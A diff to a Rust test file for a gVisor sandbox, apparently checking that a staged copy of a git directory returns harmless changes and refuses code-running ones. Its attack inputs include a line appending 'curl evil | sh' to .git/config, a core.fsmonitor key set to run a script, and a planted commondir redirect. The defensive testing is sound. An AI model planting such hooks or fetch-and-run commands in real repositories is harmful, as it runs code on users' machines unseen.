@@ -149,7 +149,9 @@ fn git_internals_stay_read_only_and_planted_project_files_are_swept() {
     }
     let fx = Fixture::new();
     let hook = ".git/hooks/pre-commit";
-    attack(&fx, &[], "echo 'curl evil | sh' >> .git/config").assert_failed();
+    // The config is a staged copy (gitstage.rs): the append lands there, and is refused
+    // after the run.
+    attack(&fx, &[], "echo 'curl evil | sh' >> .git/config").assert_ok();
     assert!(!attacks::read_text(&fx.ws.join(".git/config"))
         .unwrap_or_default()
         .contains("evil"));
@@ -814,4 +816,91 @@ fn more_masks_than_runsc_takes_are_refused_typed() {
         .run()
         .assert_success()
         .assert_stdout_contains("started");
+}
+
+/// An existing git dir's top level is a staged copy during a gVisor run (gitstage.rs): git's
+/// rename of `config.lock` over `config` works inside, and after the run an inert change (with
+/// a commit and a new branch) is on the host; a live key is refused, the host's config kept
+/// and the run's version moved aside, and git on the host runs nothing; a `commondir` planted
+/// at the top is swept; a name the host changed too during the run keeps the host's version.
+/// Controls: the same live key set on the host runs; the run saw its own change inside.
+#[test]
+fn staged_git_dir_brings_back_inert_changes_only() {
+    if runsc_missing() {
+        return;
+    }
+    let fx = Fixture::new();
+    let inert = "set -e
+        git config user.name Inside
+        git remote add mirror https://example.invalid/x.git
+        git -c user.email=i@example.invalid commit -q --allow-empty -m inside
+        git checkout -q -b topic
+        echo ok";
+    attack(&fx, &[], inert).assert_shows("ok");
+    let config = attacks::read_text(&fx.ws.join(".git/config")).unwrap_or_default();
+    assert!(config.contains("name = Inside"), "{config}");
+    assert!(config.contains("[remote \"mirror\"]"), "{config}");
+    fx.git_host(&["log", "--oneline", "-1"])
+        .assert_stdout_contains("inside");
+    fx.git_host(&["rev-parse", "--abbrev-ref", "HEAD"])
+        .assert_stdout_contains("topic");
+    // A live key: seen inside, refused after.
+    let records = fx.records();
+    let (script, flag) = fx.tripwire("pwned-staged-config");
+    let live = format!(
+        "git config core.fsmonitor {} && git config --get core.fsmonitor",
+        script.display()
+    );
+    let before = attacks::read_bytes(&fx.ws.join(".git/config"));
+    attack(&fx, &records.opts(), &live).assert_shows(&script.display().to_string());
+    assert_eq!(attacks::read_bytes(&fx.ws.join(".git/config")), before);
+    records.assert_swept_kind("protected_path_refused", &[".git/config"]);
+    assert!(
+        attacks::read_text(&fx.ws.join(".git/config.stockade-refused"))
+            .unwrap_or_default()
+            .contains("fsmonitor")
+    );
+    fx.git_host(&["status", "--porcelain"]);
+    assert!(!flag.exists(), "the run's fsmonitor ran on the host");
+    // A redirect planted at the top: swept after the run.
+    let elsewhere = fx.root.join("elsewhere");
+    attack(
+        &fx,
+        &[],
+        &format!("echo {} > .git/commondir", elsewhere.display()),
+    )
+    .assert_ok();
+    assert!(
+        !fx.ws.join(".git/commondir").exists(),
+        "a planted commondir survived the run"
+    );
+    // Both change a name: the host's stays, the run's goes aside.
+    let go = fx.ws.join("go");
+    let child = spawn_run(
+        &fx,
+        "touch started; while [ ! -e go ]; do sleep 0.05; done; git config user.name RunSide",
+    );
+    wait_for_file(&fx.ws.join("started"));
+    fx.git_host(&["config", "user.name", "HostSide"])
+        .assert_success();
+    std::fs::write(&go, "").expect("write go");
+    let out = child.wait_with_output().expect("wait for the run");
+    assert!(out.status.success(), "{out:?}");
+    let config = attacks::read_text(&fx.ws.join(".git/config")).unwrap_or_default();
+    assert!(config.contains("name = HostSide"), "{config}");
+    assert!(
+        attacks::read_text(&fx.ws.join(".git/config.stockade-conflict"))
+            .unwrap_or_default()
+            .contains("name = RunSide")
+    );
+    assert!(
+        String::from_utf8_lossy(&out.stderr).contains("changed on the host during it too"),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    // Control: the live key set on the host runs.
+    fx.git_host(&["config", "core.fsmonitor", &script.display().to_string()])
+        .assert_success();
+    fx.git_host(&["status", "--porcelain"]);
+    assert!(flag.exists(), "control: git did not run the fsmonitor");
 }
